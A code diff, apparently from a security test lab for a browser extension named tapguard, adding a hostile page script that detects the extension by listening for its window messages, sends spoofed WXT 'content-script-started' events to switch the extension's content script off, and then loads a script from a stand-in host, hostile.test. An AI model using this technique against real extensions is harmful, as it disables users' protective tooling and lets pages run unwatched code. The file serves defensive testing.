@@ -267,6 +267,41 @@ const SPOOF_JS = `(function () {
 `;
 
 /**
+ * framework: page code that goes after the extension framework's own plumbing. WXT's content-script
+ * context announces each start with a window message and a document event named after the
+ * extension id, and stops itself when it sees another such event: a page that knows the id (`id`)
+ * could learn tapguard is there, or switch its watching off. The page keeps what it heard in
+ * `data-lab-heard`, sends the stop event, then adds a script from a new origin.
+ */
+const FRAMEWORK_JS = `(function () {
+  'use strict';
+  ${PARAMS}
+  var id = params.get('id') || '';
+  var heard = [];
+  window.addEventListener('message', function (e) {
+    if (e.source === window && e.data && e.data.labOwn) return;
+    heard.push(typeof e.data === 'object' && e.data ? String(e.data.type || Object.keys(e.data).join(',')) : String(e.data));
+    document.documentElement.setAttribute('data-lab-heard', JSON.stringify(heard));
+  });
+  window.postMessage({ labOwn: true }, '*');
+  function attack() {
+    var names = [id + ':content:wxt:content-script-started', 'wxt:content-script-started'];
+    for (var i = 0; i < names.length && params.get('attack') !== '0'; i++) {
+      document.dispatchEvent(new CustomEvent(names[i], { detail: { contentScriptName: 'content', messageId: 'hostile' } }));
+    }
+    setTimeout(function () {
+      var s = document.createElement('script');
+      s.src = 'https://fw-' + run + '.hostile.test/after.js';
+      document.head.appendChild(s);
+      setTimeout(function () { document.documentElement.setAttribute('data-lab-heard', JSON.stringify(heard)); ${DONE} }, 300);
+    }, 300);
+  }
+  if (document.readyState === 'loading') document.addEventListener('DOMContentLoaded', function () { setTimeout(attack, 100); });
+  else setTimeout(attack, 100);
+})();
+`;
+
+/**
  * csp: a flood of CSP violations of several kinds: images from 5,000 distinct origins, eval, and
  * inline styles.
  */
@@ -321,6 +356,7 @@ export const HOSTILE = {
   huge: HUGE_JS,
   prototypes: PROTOTYPES_JS,
   spoof: SPOOF_JS,
+  framework: FRAMEWORK_JS,
   csp: CSP_JS,
   stream: STREAM_JS,
 } as const;
